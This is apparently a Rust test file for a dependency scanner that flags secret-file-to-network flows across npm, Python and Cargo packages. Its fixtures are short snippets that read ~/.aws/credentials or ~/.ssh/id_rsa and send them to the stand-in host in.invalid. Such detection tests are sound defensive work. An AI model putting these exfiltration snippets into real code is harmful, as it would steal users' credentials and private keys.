//! Flows through packages of every language, from their files on.

use super::{Crossing, Member, across};
use crate::check::examples::{contents, package};
use crate::model::ways::Interface;
use crate::model::{Ecosystem, Package};
use crate::rules::RuleSet;

type Files<'a> = &'a [(&'a str, &'a str)];

fn read(ecosystem: Ecosystem, name: &str, files: Files<'_>) -> (Package, Interface) {
    let package = Package { name: name.to_owned(), ..package(ecosystem) };
    let files: Vec<(&str, &[u8])> = files.iter().map(|(path, text)| (*path, text.as_bytes())).collect();
    let analysis = crate::check::analyse(&package, &contents(&files), &RuleSet::default());
    (package, analysis.interface)
}

/// The flows of packages of which the first depends on all others.
fn flows(ecosystem: Ecosystem, packages: &[(&str, Files<'_>)]) -> Vec<Crossing> {
    let read: Vec<_> = packages.iter().map(|(name, files)| read(ecosystem, name, files)).collect();
    let members: Vec<_> = read
        .iter()
        .enumerate()
        .map(|(at, (package, interface))| {
            let dependencies = if at == 0 { (1..read.len()).collect() } else { Vec::new() };
            Member { package, interface, dependencies }
        })
        .collect();
    across(&members)
}

fn names(crossings: &[Crossing]) -> Vec<(usize, &str, Vec<usize>)> {
    let others = |crossing: &Crossing| crossing.others.iter().map(|(at, _)| *at).collect();
    crossings.iter().map(|it| (it.member, &*it.fact.name, others(it))).collect()
}

const MANIFEST: (&str, &str) = ("package.json", r#"{"name":"x","version":"1.0.0","main":"lib/index.js"}"#);
const READS: &str = "const fs = require('fs'); const os = require('os'); const path = require('path');\n\
    exports.load = () => fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\n";
const SENDS: &str = "const https = require('https');\n\
    exports.put = function (data) { const r = https.request('https://in.invalid/a', { method: 'POST' }); r.write(data); r.end(); };\n";

#[test]
fn one_package_reads_another_sends_and_a_third_brings_them_together() {
    let app =
        "const { load } = require('profile-kit'); const out = require('@kit/tiny-post');\nout.put(load());\n";
    let packages: [(&str, Files<'_>); 3] = [
        ("app", &[MANIFEST, ("lib/index.js", app)]),
        (
            "profile-kit",
            &[MANIFEST, ("lib/index.js", "module.exports = require('./load');\n"), ("lib/load.js", READS)],
        ),
        ("@kit/tiny-post", &[MANIFEST, ("lib/index.js", SENDS)]),
    ];
    let got = flows(Ecosystem::Npm, &packages);
    assert_eq!(names(&got), [(0, "secret-file->net", vec![1, 2])]);
    assert_eq!(&*got[0].fact.span.file, "lib/index.js");
    assert_eq!(&*got[0].others[0].1.file, "lib/load.js");

    // Each is called, and nothing secret goes from one to the other.
    let apart = "const { load } = require('profile-kit'); const out = require('@kit/tiny-post');\nconsole.log(load().length); out.put('ready');\n";
    let apart: Files<'_> = &[MANIFEST, ("lib/index.js", apart)];
    let packages = [("app", apart), packages[1], packages[2]];
    assert_eq!(names(&flows(Ecosystem::Npm, &packages)), []);
}

#[test]
fn imports_of_modules_and_of_their_files() {
    let app = "import put from 'tiny-post/lib/put.js';\nimport { readFileSync } from 'node:fs';\n\
        import { homedir } from 'node:os';\nput(readFileSync(homedir() + '/.ssh/id_rsa'));\n";
    let sends = "import https from 'node:https';\nexport default function (data) {\n  const r = https.request('https://in.invalid/a', { method: 'POST' });\n  r.write(data); r.end();\n}\n";
    let got = flows(
        Ecosystem::Npm,
        &[
            ("app", &[MANIFEST, ("lib/index.mjs", app)]),
            ("tiny-post", &[MANIFEST, ("lib/index.js", ""), ("lib/put.js", sends)]),
        ],
    );
    assert_eq!(names(&got), [(0, "secret-file->net", vec![1])]);
}

#[test]
fn what_tests_do_is_no_offer_and_what_is_not_depended_on_is_not_asked() {
    let app = "const { load } = require('profile-kit/test/load'); const out = require('tiny-post');\nout.put(load());\n";
    let files: [(&str, Files<'_>); 3] = [
        ("app", &[MANIFEST, ("lib/index.js", app)]),
        ("profile-kit", &[MANIFEST, ("lib/index.js", ""), ("test/load.js", READS)]),
        ("tiny-post", &[MANIFEST, ("lib/index.js", SENDS)]),
    ];
    assert_eq!(names(&flows(Ecosystem::Npm, &files)), []);
    let app =
        "const { load } = require('profile-kit'); const out = require('tiny-posts');\nout.put(load());\n";
    let files: [(&str, Files<'_>); 3] = [
        ("app", &[MANIFEST, ("lib/index.js", app)]),
        ("profile-kit", &[MANIFEST, ("lib/index.js", READS)]),
        ("tiny-post", &[MANIFEST, ("lib/index.js", SENDS)]),
    ];
    assert_eq!(names(&flows(Ecosystem::Npm, &files)), []);
}

#[test]
fn python_packages() {
    let app = "from profile_kit import load\nimport tiny_post.client\n\ndef main():\n    tiny_post.client.put(body=load())\n\nmain()\n";
    let reads = "import pathlib\n\ndef load():\n    return (pathlib.Path.home() / '.aws' / 'credentials').read_text()\n";
    let sends = "import requests\n\ndef put(url='https://in.invalid/a', body=None):\n    return requests.post(url, data=body)\n";
    let got = flows(
        Ecosystem::Pypi,
        &[
            ("app", &[("app/main.py", app)]),
            (
                "profile-kit",
                &[("profile_kit/__init__.py", "from .load import load\n"), ("profile_kit/load.py", reads)],
            ),
            ("tiny-post", &[("src/tiny_post/__init__.py", ""), ("src/tiny_post/client.py", sends)]),
        ],
    );
    assert_eq!(names(&got), [(0, "secret-file->net", vec![1, 2])]);
}

#[test]
fn crates() {
    let manifest = ("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\n");
    let app = "pub fn go() {\n    let home = std::env::var(\"HOME\").unwrap();\n    let key = std::fs::read_to_string(format!(\"{home}/.ssh/id_rsa\")).unwrap();\n    tiny_post::put(&key);\n}\n";
    let sends = "use std::io::Write;\n\npub fn put(body: &str) {\n    let mut out = std::net::TcpStream::connect(\"in.invalid:80\").unwrap();\n    let _ = out.write_all(body.as_bytes());\n}\n";
    let got = flows(
        Ecosystem::Cargo,
        &[("app", &[manifest, ("src/lib.rs", app)]), ("tiny-post", &[manifest, ("src/lib.rs", sends)])],
    );
    assert_eq!(names(&got), [(0, "secret-file->net", vec![1])]);
    let inner = "pub mod net;\npub use net::put;\n";
    let got = flows(
        Ecosystem::Cargo,
        &[
            ("app", &[manifest, ("src/lib.rs", app)]),
            ("tiny-post", &[manifest, ("src/lib.rs", inner), ("src/net.rs", sends)]),
        ],
    );
    assert_eq!(names(&got), [(0, "secret-file->net", vec![1])]);
}
